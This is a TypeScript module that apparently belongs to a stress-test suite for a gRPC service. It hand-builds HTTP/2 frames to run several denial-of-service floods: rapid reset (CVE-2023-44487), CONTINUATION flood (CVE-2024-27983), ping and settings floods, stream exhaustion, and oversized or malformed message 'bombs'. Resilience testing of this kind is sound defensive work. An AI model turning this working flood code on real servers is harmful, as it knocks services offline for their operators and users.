/** Floods below the level of calls, frame by frame, against the gRPC listener. */
import type { Socket } from 'node:net'
import { again, many, openTls, push, type Target } from './hostile-sockets.ts'

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'

const FRAME = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  window: 8,
  continuation: 9,
} as const
const END_STREAM = 1
const END_HEADERS = 4

const frame = (type: number, flags: number, stream: number, payload: Uint8Array): Buffer => {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** A literal header field that is not indexed, names and values short. */
const literal = (name: string, value: string): Buffer =>
  Buffer.concat([
    Uint8Array.of(0, name.length),
    Buffer.from(name),
    Uint8Array.of(value.length),
    Buffer.from(value),
  ])

/** POST, https, a path of ours. */
const requestHeaders = (path: string): Buffer =>
  Buffer.concat([
    Uint8Array.of(0x83, 0x87),
    literal(':path', path),
    literal(':authority', 'x'),
    literal('content-type', 'application/grpc'),
    literal('te', 'trailers'),
  ])

const PATH = '/holdfast.provider.v1.Provider/Describe'
const SETTINGS = frame(FRAME.settings, 0, 0, new Uint8Array(0))

/** Sends what `next` makes, over and over; `n` counts from 0. */
const flood =
  (next: (n: number) => Uint8Array, first: (socket: Socket) => Uint8Array = () => SETTINGS) =>
  (target: Target): Promise<number> =>
    many(4, () =>
      again(
        target,
        () => openTls(target, 'h2'),
        async (socket) => {
          socket.resume()
          await push(socket, Buffer.concat([Buffer.from(PREFACE), first(socket)]))
          for (let n = 0; !target.until.aborted; n++) if (!(await push(socket, next(n)))) return
        },
      ),
    )

const repeat = (times: number, make: (i: number) => Uint8Array): Buffer =>
  Buffer.concat(Array.from({ length: times }, (_, i) => make(i)))

/** A request and at once its reset, over and over (CVE-2023-44487). */
export const rapidReset = flood((n) =>
  repeat(100, (i) => {
    const stream = 1 + 2 * (n * 100 + i)
    const headers = frame(FRAME.headers, END_HEADERS, stream, requestHeaders(PATH))
    return Buffer.concat([headers, frame(FRAME.reset, 0, stream, Buffer.from([0, 0, 0, 8]))])
  }),
)

export const pingFlood = flood(() => repeat(500, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))))

export const settingsFlood = flood(() =>
  repeat(200, () => frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255]))),
)

/** One request whose headers never end (CVE-2024-27983). */
export const continuationFlood = flood(
  (n) =>
    repeat(20, (i) => {
      const field = literal(`x-${n}-${i}`, 'y'.repeat(100))
      return frame(FRAME.continuation, 0, 1, field)
    }),
  () => Buffer.concat([SETTINGS, frame(FRAME.headers, 0, 1, requestHeaders(PATH))]),
)

/** Requests that never send their message, as many as there may be. */
export const openStreams = flood((n) =>
  repeat(50, (i) => frame(FRAME.headers, END_HEADERS, 1 + 2 * (n * 50 + i), requestHeaders(PATH))),
)

/** Frames that carry nothing: data, priorities, windows. */
export const emptyFrames = flood(
  () =>
    repeat(300, (i) =>
      i % 3 === 0
        ? frame(FRAME.data, 0, 1, new Uint8Array(0))
        : i % 3 === 1
          ? frame(FRAME.priority, 0, 3, Buffer.from([0, 0, 0, 0, 1]))
          : frame(FRAME.window, 0, 0, Buffer.from([0, 0, 0, 1])),
    ),
  () => Buffer.concat([SETTINGS, frame(FRAME.headers, END_HEADERS, 1, requestHeaders(PATH))]),
)

const message = (flags: number, length: number, body: Uint8Array): Buffer => {
  const head = Buffer.alloc(5)
  head[0] = flags
  head.writeUInt32BE(length, 1)
  return Buffer.concat([head, body])
}

/** Calls whose messages are bombs: endless, compressed, nested, full of unknown fields. */
export const messageBombs = (bombs: readonly Uint8Array[], path: string) =>
  flood((n) => {
    const stream = 1 + 2 * n
    const bomb = bombs[n % bombs.length] ?? new Uint8Array(0)
    const announced = n % 3 === 0 ? 0xfffffff0 : bomb.length
    const whole = message(n % 5 === 4 ? 1 : 0, announced, bomb)
    const parts: Buffer[] = [frame(FRAME.headers, END_HEADERS, stream, requestHeaders(path))]
    for (let at = 0; at < whole.length; at += 16_384) {
      const part = whole.subarray(at, at + 16_384)
      const flags = at + 16_384 >= whole.length ? END_STREAM : 0
      parts.push(frame(FRAME.data, flags, stream, part))
    }
    return Buffer.concat(parts)
  })
